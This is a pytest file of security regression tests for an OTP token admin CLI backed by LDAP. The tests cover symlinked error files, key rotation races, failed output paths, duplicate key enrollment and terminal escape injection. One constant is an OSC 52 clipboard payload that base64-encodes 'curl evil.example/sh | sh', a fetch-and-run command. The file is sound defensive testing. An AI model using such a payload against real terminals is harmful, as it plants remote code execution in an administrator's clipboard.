"""Attacks on the admin CLI, each performed against a real slapd (the stock-schema set-up:
none of these depends on the directory flavour).  See docs/SECURITY.md."""

from __future__ import annotations

import json
import os
import shutil

import pytest

from otpgate.cli import main
from otpgate.directory.records import StateChange
from otpgate.otp.oath import hotp
from otpgate.tokens import Secret, Token, TokenType
from otpgate.vault import Keyring, keygen, read_raw_keys
from tests.integration.backends import make_backend
from tests.integration.test_cli import Cli, _own_subtree, _remove_subtree, b32

OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUvc2ggfCBzaA==\x07"


@pytest.fixture
def slapd_backend(request, tmp_path_factory):
    return make_backend("slapd-stock", request, tmp_path_factory.getbasetemp())


def _serials(cli: Cli) -> set[str]:
    return {t["serial"] for t in cli.json("inventory")["tokens"]}


def test_error_file_is_0600_and_never_written_through_a_symlink(slapd_backend, tmp_path, capsys):
    """`Error_<file>` holds every seed of the import file.  It was written with the default
    umask (0644) and followed a symlink planted under its name."""
    cli = Cli(
        slapd_backend, tmp_path, capsys, directory={"inventory_dn": slapd_backend.inventory_dn()}
    )
    prefix = f"ef{os.urandom(3).hex()}"
    seeds = [os.urandom(20).hex() for _ in range(2)]
    csv = tmp_path / "tokens.csv"
    csv.write_text(f"{prefix}-1, {seeds[0]}\n{prefix}-2, {seeds[1]}\n{prefix}-3, not-hex\n")
    os.chmod(csv, 0o600)
    error_file = tmp_path / "Error_tokens.csv"
    stolen = tmp_path / "world-readable-elsewhere"  # where the attacker wants the seeds
    error_file.symlink_to(stolen)

    for extra in ((), ("--partial",)):
        cli("import", str(csv), "--format", "oath-csv", *extra, code=1)
        assert "exists (or is a symlink)" in cli.err and "nothing was imported" in cli.err
        assert not stolen.exists()
        assert not any(s.startswith(prefix) for s in _serials(cli))  # refused before importing

    error_file.unlink()
    old_umask = os.umask(0o022)
    try:
        cli("import", str(csv), "--format", "oath-csv", code=1)
    finally:
        os.umask(old_umask)
    assert error_file.stat().st_mode & 0o777 == 0o600 and not error_file.is_symlink()
    assert seeds[0] in error_file.read_text() and "# ERROR line 3:" in error_file.read_text()

    # --partial with no problem row: the error file made before the import is removed again.
    good = tmp_path / "good.csv"
    good.write_text(f"{prefix}-9, {os.urandom(20).hex()}\n")
    assert cli.json("import", str(good), "--format", "oath-csv", "--partial")["imported"]
    assert not (tmp_path / "Error_good.csv").exists()
    cli("delete", f"{prefix}-9")


def test_retire_after_a_keygen_during_the_rekey_deletes_nothing(
    slapd_backend, tmp_path, capsys, monkeypatch
):
    """`rekey --retire` kept the keyring file's *current* key: a `keygen` during a long
    rekey made a new key current, and retire deleted the key everything had just been
    rewritten under (all OTP state undecryptable)."""
    import otpgate.admin.rekey as rekey

    tag = f"rr{os.urandom(3).hex()}"
    ou, inv, users = _own_subtree(slapd_backend, tag)
    try:
        keyring = tmp_path / "keyring.json"
        shutil.copy(slapd_backend.keyring, keyring)
        os.chmod(keyring, 0o600)
        cli = Cli(
            slapd_backend,
            tmp_path,
            capsys,
            directory={"base_dn": ou, "inventory_dn": inv},
            keyring=keyring,
        )
        for user in users:
            cli("enroll", user, "--no-qr")
        first = Keyring.load(keyring).current
        keygen(keyring, "target")

        # The rekey pass runs with "target"; then, before retire, someone runs keygen.
        scan = rekey.key_ids_in_use
        rotated: list[str] = []

        def keygen_during_the_run(*args, **kwargs):
            if not rotated:
                keygen(keyring, "during")
                rotated.append("during")
            return scan(*args, **kwargs)

        monkeypatch.setattr(rekey, "key_ids_in_use", keygen_during_the_run)
        cli("rekey", "--retire", code=1)
        assert rotated and "not retiring old keys" in cli.err and "'during'" in cli.err
        keys, current = read_raw_keys(keyring)
        assert set(keys) == {first, "target", "during"} and current == "during"
        store = cli.store()
        try:
            for user in users:
                state = store.decode(store.resolve(user))  # everything still decrypts
                assert len(state.tokens) == 1 and state.secrets
        finally:
            store.directory.close()

        monkeypatch.setattr(rekey, "key_ids_in_use", scan)
        done = cli.json("rekey", "--retire")  # run again: now under "during", then retire
        assert done["retired"] == sorted([first, "target"])
        assert set(read_raw_keys(keyring)[0]) == {"during"}
        store = cli.store()
        try:
            for user in users:
                store.decode(store.resolve(user))
        finally:
            store.directory.close()
    finally:
        _remove_subtree(slapd_backend, ou, inv)


def test_make_current_then_rekey_and_retire(slapd_backend, tmp_path, capsys):
    """The documented order: keygen --not-current -> copy -> keygen --make-current ->
    rekey -> retire."""
    tag = f"mc{os.urandom(3).hex()}"
    ou, inv, users = _own_subtree(slapd_backend, tag)
    try:
        keyring = tmp_path / "keyring.json"
        shutil.copy(slapd_backend.keyring, keyring)
        os.chmod(keyring, 0o600)
        cli = Cli(
            slapd_backend,
            tmp_path,
            capsys,
            directory={"base_dn": ou, "inventory_dn": inv},
            keyring=keyring,
        )
        cli("enroll", users[0], "--no-qr")
        first = Keyring.load(keyring).current
        capsys.readouterr()
        assert main(["keygen", str(keyring), "--key-id", "next", "--not-current"]) == 0
        assert Keyring.load(keyring).current == first
        assert main(["keygen", str(keyring), "--make-current", "next"]) == 0
        assert "now current" in capsys.readouterr().out
        assert main(["keygen", str(keyring), "--make-current", "nope"]) == 2
        assert cli.json("rekey", "--retire")["retired"] == [first]
        assert read_raw_keys(keyring)[1] == "next"
    finally:
        _remove_subtree(slapd_backend, ou, inv)


def test_a_bad_qr_or_card_path_changes_nothing(slapd_backend, tmp_path, capsys):
    """--qr/--card files were opened after the directory change was committed: a bad path
    replaced the user's token (or scratch list) and never showed the new secret."""
    cli = Cli(slapd_backend, tmp_path, capsys)
    name, _dn = slapd_backend.new_user("qr")
    key = os.urandom(20)
    old = cli.json("enroll", name, "--type", "hotp", "--secret", b32(key), "--no-qr")["token"]
    cli.json("scratch", name, "--count", "3")
    before = cli.json("show", name)["tokens"]

    missing = tmp_path / "no-such-dir" / "qr.png"
    cli("enroll", name, "--qr", str(missing), "--no-qr", code=2)
    assert "cannot create --qr" in cli.err and "nothing was changed" in cli.err
    taken = tmp_path / "taken.png"
    taken.write_bytes(b"someone's file")
    cli("enroll", name, "--qr", str(taken), "--no-qr", code=2)
    assert taken.read_bytes() == b"someone's file"
    cli("scratch", name, "--card", str(tmp_path / "no-such-dir" / "card.html"), code=2)
    assert "cannot create --card" in cli.err

    after = cli.json("show", name)["tokens"]
    assert after == before and old["id"] in [t["id"] for t in after]
    result = cli.test_auth(name, hotp(key, 0))
    assert result.returncode == 0, result.stdout + result.stderr  # the old token still works

    # A good path: file written, mode 0600; an enrollment that fails removes the empty file.
    good = tmp_path / "new.png"
    cli("enroll", name, "--qr", str(good), "--no-qr", "--label", "bad\x1b[2J", code=2)
    assert not good.exists()
    cli("enroll", name, "--qr", str(good), "--no-qr")
    assert good.stat().st_mode & 0o777 == 0o600 and good.read_bytes().startswith(b"\x89PNG")


def test_one_key_enrolled_twice_is_refused(slapd_backend, tmp_path, capsys):
    """Each token has its own use state: one key enrolled twice accepts every code twice."""
    inv = slapd_backend.inventory_dn()
    cli = Cli(slapd_backend, tmp_path, capsys, directory={"inventory_dn": inv})
    name, _dn = slapd_backend.new_user("dup")
    key = os.urandom(20)
    first = cli.json("enroll", name, "--type", "hotp", "--secret", b32(key), "--no-qr")
    cli(
        "enroll", name, "--type", "hotp", "--secret", b32(key), "--keep-existing", "--no-qr", code=1
    )
    assert f"this key is already enrolled as token {first['token']['id']}" in cli.err
    assert [t["id"] for t in cli.json("show", name)["tokens"]] == [first["token"]["id"]]

    # The same key as a hardware token: the import refuses a second serial with that key,
    # and assigning it to the user who has the key is refused (the token goes back).
    serial = f"dup{os.urandom(3).hex()}"
    csv = tmp_path / "dup.csv"
    csv.write_text(f"{serial}, {key.hex()}\n")
    cli("import", str(csv), "--format", "oath-csv")
    again = tmp_path / "again.csv"
    again.write_text(f"{serial}-b, {key.hex()}\n")
    cli("import", str(again), "--format", "oath-csv", code=1)
    assert (
        f"already in the inventory as serial {serial}" in (tmp_path / "Error_again.csv").read_text()
    )
    cli("assign", serial, name, code=1)
    assert "already enrolled" in cli.err
    assert serial in _serials(cli) and len(cli.json("show", name)["tokens"]) == 1
    cli("delete", serial)


def test_control_characters_never_reach_the_terminal(slapd_backend, tmp_path, capsys):
    """An OSC 52 / CSI sequence in a label (or a serial) reached the admin's terminal
    through `otpgate show` / `list`."""
    inv = slapd_backend.inventory_dn()
    cli = Cli(slapd_backend, tmp_path, capsys, directory={"inventory_dn": inv})
    name, _dn = slapd_backend.new_user("esc")
    cli("enroll", name, "--label", OSC52, "--no-qr", code=2)
    assert "label: character U+001B" in cli.err and "\x1b" not in cli.err
    serial = f"esc{os.urandom(3).hex()}"
    csv = tmp_path / "esc.csv"
    csv.write_text(f"{serial}, {os.urandom(20).hex()}\n")
    cli("import", str(csv), "--format", "oath-csv")
    cli("rename", serial, f"fob{OSC52}", code=2)
    assert "label" in cli.err
    cli("delete", serial)

    # Values stored before labels were checked (or written by another tool): a label and a
    # serial with escape sequences, written straight into the user's state.
    token = Token("e5c00001", TokenType.HOTP, 0, label="x", serial="SN\x1b[8m")
    object.__setattr__(token, "label", OSC52)  # what an old version let through
    store = cli.store()
    try:
        user = store.resolve(name)
        store.update(
            user,
            lambda s: StateChange(
                None,
                used=s.used,
                tokens=(*s.tokens, token),
                secrets={**s.secrets, token.id: Secret(os.urandom(20))},
            ),
        )
    finally:
        store.directory.close()
    for out in (cli("show", name), cli("list")):
        assert "\x1b" not in out and "\x07" not in out
    shown = cli("show", name)
    assert "\\x1b]52;c;" in shown and "SN\\x1b[8m" in shown
    doc = cli.json("show", name)  # JSON escapes control characters itself
    assert any(t["serial"] == "SN\x1b[8m" for t in doc["tokens"])
    assert "\x1b" not in json.dumps(doc)
